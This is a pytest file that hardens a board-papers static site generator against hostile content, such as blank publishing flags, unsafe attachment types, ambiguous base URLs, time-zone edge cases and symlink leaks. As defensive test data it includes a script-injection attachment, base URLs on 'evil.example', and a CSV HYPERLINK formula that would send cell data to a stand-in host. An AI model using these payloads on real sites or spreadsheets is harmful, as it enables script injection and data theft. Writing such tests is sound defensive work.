"""Issue 13, fail closed: the content-level holes an adversarial round found, each with the input that got
through. A publishing flag left blank, an attachment type a browser runs, a declaration naming a withheld item, a
base_url only some tools can read, a time that is a number, a clock with an offset, the autumn's repeated hour,
formula cells in CSV, links out of assets/ and layouts/, reference errors hidden behind a read error.

Each test builds a copy of the mini fixture in-process (search off), as `test_hostile_input.py` does.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
from pathlib import Path

import pytest
from conftest import FIXTURES, ROOT, csv_in_zip

from boardpapers.content.publish import apply_publishing
from boardpapers.core.diagnostics import BuildFailed
from boardpapers.pipeline import Options, build

NOW = dt.datetime(2026, 1, 1, 9, 0)
ITEM = "meetings/2014-01-21-iib/02-peer-challenge.md"
WELCOME = "meetings/2014-01-21-iib/01-welcome.md"  # an item nothing links to: it may be embargoed
MEETING = "meetings/2014-01-21-iib/index.md"


@pytest.fixture
def content(tmp_path) -> Path:
    return shutil.copytree(FIXTURES / "mini" / "content", tmp_path / "content")


def edit(content: Path, rel: str, old: str, new: str) -> None:
    path = content / rel
    text = path.read_text()
    assert old in text, (rel, old)
    path.write_text(text.replace(old, new, 1))


def errors(content: Path, **options) -> list[tuple[str, int, str]]:
    """(path, line, code) of every error a build reports; fails the test when the build passes."""
    out = content.parent / "site"
    with pytest.raises(BuildFailed) as failed:
        build(Options(content_dir=content, out_dir=out, now=NOW, search=False, cache=False, **options))
    assert not (out / "index.html").exists(), "a failed build wrote site/"
    return [(d.pos.path, d.pos.line, d.code) for d in failed.value.diagnostics.errors]


def built(content: Path, out: Path | None = None, **options):
    out = out or content.parent / "site"
    options = {"now": NOW, "search": False, "cache": False, **options}
    return build(Options(content_dir=content, out_dir=out, **options)), out


def every_file(site: Path) -> bytes:
    """Every file's bytes, a zip's (open data's CSV downloads) as the CSV it holds."""
    return b"\n".join(csv_in_zip(p.read_bytes()).encode() if p.suffix == ".zip" else p.read_bytes()
                      for p in sorted(site.rglob("*")) if p.is_file())


# -- item 3: a publishing flag that is present must say something


@pytest.mark.parametrize("line", ["draft:", "draft: ~", "draft: null", 'draft: ""', "publish_from:",
                                  "publish_from: ~", "exempt:", 'exempt: ""', "exempt: ~", "exempt: '  '"])
def test_a_blank_publishing_flag_is_an_error_and_publishes_nothing(content, line):
    edit(content, ITEM, "timing: 11:05", f"timing: 11:05\n{line}")
    assert errors(content) == [(f"content/{ITEM}", 5, "empty-flag")]


def test_a_blank_flag_is_withheld_even_by_the_model():
    """Were the error ever ignored, the model still says draft: nothing of the file is published."""
    from boardpapers.content.fields import Fields, publishing
    from boardpapers.content.yamlread import load
    from boardpapers.core.diagnostics import Diagnostics

    for text in ("draft:\n", "publish_from: ~\n"):
        f = Fields(load(text), "x.md", Diagnostics(), "x")
        assert publishing(f).draft and [d.code for d in f.diags.items] == ["empty-flag"]


# -- items 2 and 22: attachments are documents (an allow-list)


@pytest.mark.parametrize("name", ["page.xht", "page.xhtm", "page.XHTML", "page.html", "x.php", "x.html.", "pic.svg",
                                  "run.js", "feed.xml", "noextension", "x.shtml", "x.swf", "x.hta"])
def test_an_attachment_that_is_not_a_document_is_refused(content, name):
    (content / "meetings/2014-01-21-iib" / name).write_text("<script>alert(document.domain)</script>")
    edit(content, ITEM, "topics: [peer-challenge]",
         f"topics: [peer-challenge]\nattachments:\n  - title: Appendix\n    file: '{name}'")
    assert errors(content) == [(f"content/{ITEM}", 18, "unsafe-attachment")]


def test_documents_and_images_are_published_as_attachments(content):
    names = ["report.pdf", "budget.xlsx", "minutes.docx", "figures.csv", "photo.JPG", "notes.txt", "pack.zip"]
    lines = "".join(f"\n  - title: {name}\n    file: {name}" for name in names)
    for name in names:
        (content / "meetings/2014-01-21-iib" / name).write_bytes(b"%PDF-1.4 " + name.encode())
    edit(content, ITEM, "topics: [peer-challenge]", "topics: [peer-challenge]\nattachments:" + lines)
    _, out = built(content)
    assert all((out / "meetings/2014-01-21-iib" / name).is_file() for name in names)


def test_attachments_whose_names_differ_only_in_case_clash(content):
    for name in ("A.pdf", "a.pdf"):
        (content / "meetings/2014-01-21-iib" / name).write_bytes(b"%PDF-1.4 " + name.encode())
    edit(content, ITEM, "topics: [peer-challenge]", "topics: [peer-challenge]\nattachments:\n  - title: One\n"
         "    file: A.pdf\n  - title: Two\n    file: a.pdf")
    assert errors(content) == [(f"content/{ITEM}", 19, "duplicate-url")]


# -- items 9 and 22: base_url must be one every tool reads the same way


@pytest.mark.parametrize("url", ["https://[::1/", "/\\\\evil.example/", "https://a.example:port/", "//evil.example/",
                                 "https://x.example/?a=1", "https:///papers/"])
def test_a_base_url_that_tools_read_differently_is_refused(content, url):
    before = (content / "site.yaml").read_text()
    (content / "site.yaml").write_text(before + f"base_url: '{url}'\n")
    assert errors(content) == [("content/site.yaml", before.count("\n") + 1, "bad-value")]


def test_a_bracketed_ipv6_base_url_builds(content):
    (content / "site.yaml").write_text((content / "site.yaml").read_text() + "base_url: 'http://[::1]:8000/p/'\n")
    result, out = built(content)
    assert result.graph.config.base_path == "/p/"
    assert b"http://[::1]:8000/p/" in (out / "feed.xml").read_bytes()


# -- item 22: 11.30 unquoted is the number 11.3


@pytest.mark.parametrize(("field", "rel"), [("start: 11.30", MEETING), ("timing: 11.30", ITEM)])
def test_a_time_written_with_a_dot_is_a_bad_time_with_the_fix_in_the_hint(content, field, rel):
    key = field.split(":")[0]
    text = (content / rel).read_text()
    old = next(line for line in text.split("\n") if line.startswith(f"{key}:"))
    edit(content, rel, old, field)
    out = content.parent / "site"
    with pytest.raises(BuildFailed) as failed:
        build(Options(content_dir=content, out_dir=out, now=NOW, search=False, cache=False))
    [problem] = failed.value.diagnostics.errors
    assert problem.code == "bad-time" and "11:30" in problem.hint and "11.3" in problem.message


# -- items 15 and 22: characters no output can hold


def test_a_non_character_in_a_title_is_refused_at_its_line(content):
    edit(content, ITEM, "title: Peer challenge", 'title: "Peer \\uffff challenge"')
    assert errors(content) == [(f"content/{ITEM}", 3, "bad-character")]


def test_control_characters_in_a_body_are_not_published(content):
    edit(content, ITEM, "## Background", "## Back\x0cground\n\nPasted\x1b[31m from a PDF\x07.\x7f")
    _, out = built(content)
    page = (out / "meetings/2014-01-21-iib/2/index.html").read_bytes()
    assert b"Pasted[31m from a PDF." in page and b"Background" in page
    assert not any(bytes([c]) in every_file(out) for c in (0x0c, 0x1b, 0x07, 0x7f))


# -- item 10: a declaration of interest never reveals a withheld item (main's issue-17 design: it is withheld with
# the item, and a number the meeting does not have is a warning, shown unlinked)


@pytest.mark.parametrize("make", ["draft", "embargoed"])
def test_a_declaration_naming_a_withheld_item_is_withheld_with_it(content, make):
    edit(content, WELCOME, "title: Welcome", "title: Zqdeclaredtitlezq\n" + (
        "draft: true" if make == "draft" else "publish_from: 2030-01-01T09:00"))
    edit(content, MEETING, "    item: 2\n    interest: Trustee of the Peer Trust",
         "    item: 1\n    interest: Director of Zqbidderzq Ltd")
    result, out = built(content)
    assert result.graph.meetings["2014-01-21-iib"].declarations == ()
    assert b"zqbidderzq" not in every_file(out).lower() and b"zqdeclaredtitlezq" not in every_file(out).lower()


def test_a_declaration_naming_a_missing_item_is_a_warning_and_an_exempt_one_keeps_its_interest_private(content):
    edit(content, MEETING, "    item: 2\n", "    item: 7\n")
    result, _ = built(content)
    assert [(d.code, d.pos.line) for d in result.diagnostics.items] == [("unknown-item", 16)]
    edit(content, MEETING, "    item: 7\n    interest: Trustee of the Peer Trust",
         "    item: 3\n    interest: Director of Zqbidderzq Ltd")  # item 3 is exempt
    result, out = built(content, content.parent / "site-exempt")
    assert result.graph.meetings["2014-01-21-iib"].declarations[0].item == "3"
    assert b"zqbidderzq" not in every_file(out).lower()


# -- items 8 and 18: the clock is a moment, compared in the site's time zone


def test_now_with_an_offset_or_z_is_that_moment_in_the_site_zone(content):
    edit(content, WELCOME, "title: Welcome", "title: Welcome\npublish_from: 2026-07-01T10:00")  # 09:00 UTC (BST)
    for now, shown in (("2026-07-01T09:30+00:00", True), ("2026-07-01T08:59Z", False),
                       ("2026-07-01T14:01+05:00", True), ("2026-07-01T13:59+05:00", False),
                       ("2026-07-01T09:59", False), ("2026-07-01T10:00", True)):
        result, _ = built(content, content.parent / f"site-{now.replace(':', '')}",
                            now=dt.datetime.fromisoformat(now))
        assert ("2014-01-21-iib/1" in result.graph.items) == shown, now
    from boardpapers.cli import parse_now

    assert parse_now("2014-01-14T09:00Z").tzinfo is not None


def test_the_repeated_autumn_hour_does_not_bring_an_embargo_back(content):
    """Europe/London repeats 01:00-02:00 on 26 October 2025. An embargo until 01:30 ends at the first 01:30
    (00:30 UTC); at the second 01:10 (01:10 UTC) it has ended, though 01:10 < 01:30 on the wall clock."""
    from zoneinfo import ZoneInfo

    edit(content, WELCOME, "title: Welcome", "title: Welcome\npublish_from: 2025-10-26T01:30")
    london = ZoneInfo("Europe/London")
    for utc, shown in (("00:20", False), ("00:40", True), ("01:10", True), ("01:40", True)):
        moment = dt.datetime.fromisoformat(f"2025-10-26T{utc}+00:00")
        local = moment.astimezone(london).replace(tzinfo=None)  # naive, with `fold` set in the repeated hour
        result, _ = built(content, content.parent / f"site-{utc.replace(':', '')}", now=moment)
        assert ("2014-01-21-iib/1" in result.graph.items) == shown, utc
        published = apply_publishing(_content(content), local)
        assert ("2014-01-21-iib/1" not in published.withheld) == shown, utc


def _content(content: Path):
    from boardpapers.content.discover import discover
    from boardpapers.content.read import read_all
    from boardpapers.content.validate import validate
    from boardpapers.core.diagnostics import Diagnostics

    diags = Diagnostics()
    return validate(read_all(discover(content, diags), diags), (), diags)


def test_a_cached_build_in_the_repeated_hour_publishes_when_the_embargo_ends(content, tmp_path):
    """The "nothing to do" check compares moments too: built before the embargo ended (00:20 UTC), a build at the
    second 01:10 (01:10 UTC) must not find the cached site up to date."""
    edit(content, WELCOME, "title: Welcome", "title: Welcome\npublish_from: 2025-10-26T01:30")
    out = tmp_path / "cached"
    first, _ = built(content, out, cache=True, now=dt.datetime.fromisoformat("2025-10-26T00:20+00:00"))
    assert "2014-01-21-iib/1" not in first.graph.items
    built(content, out, cache=True, now=dt.datetime.fromisoformat("2025-10-26T01:10+00:00"))
    assert (out / "meetings/2014-01-21-iib/1/index.html").is_file()


def test_the_cli_takes_now_with_an_offset_without_a_traceback(content):
    from conftest import run_build

    edit(content, WELCOME, "title: Welcome", "title: Welcome\npublish_from: 2014-01-14T10:00")  # a comparison
    done = run_build("--content", str(content), "--out", str(content.parent / "site"), "--now",
                     "2014-01-14T09:00+05:00", "--no-search")
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    done = run_build("check", "--content", str(content), "--now", "2014-01-14T09:00Z")
    assert done.returncode == 0, done.stderr


# -- item 22: scaffolding a meeting the build would refuse


def test_new_meeting_refuses_a_year_the_build_refuses(content):
    from boardpapers.content.scaffold import scaffold

    assert scaffold(content, ["meeting", "9999-01-01", "iib"]) != 0
    assert not (content / "meetings" / "9999-01-01-iib").exists()


# -- item 12: formula injection in the CSV files


def test_csv_cells_that_spreadsheets_would_run_are_defused(content):
    edit(content, ITEM, "text: the findings from the Cardiff evaluation report.",
         "text: '=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")'")
    edit(content, ITEM, "text: To publish the findings.", "text: '@SUM(1+1)'")
    _, out = built(content)
    decisions = list(csv.DictReader(io.StringIO(csv_in_zip((out / "data/decisions.csv.zip").read_bytes()), newline="")))
    actions = list(csv.DictReader(io.StringIO(csv_in_zip((out / "data/actions.csv.zip").read_bytes()), newline="")))
    assert [d["text"] for d in decisions if "HYPERLINK" in d["text"]] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"]
    assert [a["text"] for a in actions if "SUM" in a["text"]] == ["'@SUM(1+1)"]
    assert len(list((out / "data").glob("*.csv.zip"))) >= 10
    for path in (out / "data").glob("*.csv.zip"):
        for row in csv.reader(io.StringIO(csv_in_zip(path.read_bytes()), newline="")):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), (path.name, row)
    # the JSON keeps the text as written: it is data, not a spreadsheet
    assert b'"=HYPERLINK(' in (out / "data/decisions.json").read_bytes()


# -- item 13: links out of assets/ and layouts/


@pytest.mark.parametrize("folder", ["assets", "layouts"])
def test_a_link_out_of_assets_or_layouts_is_refused(content, folder, tmp_path):
    project = content.parent
    shutil.copytree(ROOT / folder, project / folder)
    secret = tmp_path / "environ"
    secret.write_text("CI_TOKEN=zqsecretzq")
    (project / folder / "leak.txt").symlink_to(secret)
    assert errors(content) == [(f"{folder}/leak.txt", 0, "symlink-outside")]
    (project / folder / "leak.txt").unlink()
    (project / folder / "inside.txt").symlink_to(project / folder / "base.html" if folder == "layouts"
                                                 else next(p for p in (project / folder).iterdir() if p.is_file()))
    _, out = built(content)
    assert b"zqsecretzq" not in every_file(out)


# -- items 15 and 16: every error at once, each at its content file


def test_a_read_error_does_not_hide_reference_errors_in_other_files(content):
    (content / "people/bob-member.md").write_text("---\nname: [unclosed\n---\n")  # cannot be read
    edit(content, ITEM, "Members discussed the findings with [[ann-chair]].",
         "Members discussed the findings with [[ann-chair]] and [[nobody-at-all]].")
    edit(content, MEETING, "Cover notes for [[iib]].", "Cover notes for [[iib]], [[bob-member]].")
    found = errors(content)
    codes = {(path, code) for path, _, code in found}
    assert ("content/people/bob-member.md", "yaml-syntax") in codes
    assert (f"content/{ITEM}", "unknown-ref") in codes  # found in the same run
    # ... but a link to the unreadable file is not reported: its own error says what to fix
    assert not [f for f in found if f[0] == f"content/{MEETING}"], found


def test_an_anchor_error_is_reported_beside_a_validation_error(content):
    edit(content, ITEM, "topics: [peer-challenge]", "topics: [peer-challenge]\nattachments:\n  - title: A\n"
         "    anchor: appendix-z")
    edit(content, "meetings/2014-03-18-iib/index.md", "status: minutes draft", "status: minuted")
    codes = {code for _, _, code in errors(content)}
    assert {"bad-value", "unknown-anchor"} <= codes


@pytest.mark.parametrize(("rel", "line"), [("people/bob-member.md", "draft:"), ("boards/iib.md", "draft_membership:")])
def test_a_blank_draft_on_a_person_or_membership_is_an_error(content, rel, line):
    path = content / rel
    text = path.read_text()
    path.write_text(text.replace("---\n", f"---\n{line}\n", 1))
    found = errors(content)
    assert (f"content/{rel}", 2, "empty-flag") in found, found
